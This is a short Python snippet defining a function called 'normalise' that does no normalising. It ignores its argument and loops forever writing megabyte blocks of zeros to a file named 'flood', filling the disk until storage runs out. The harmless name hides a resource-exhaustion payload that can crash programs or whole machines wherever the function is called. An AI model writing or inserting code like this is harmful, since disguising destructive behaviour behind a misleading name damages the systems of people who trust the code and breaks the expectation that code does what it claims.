def normalise(x):
    with open("flood", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
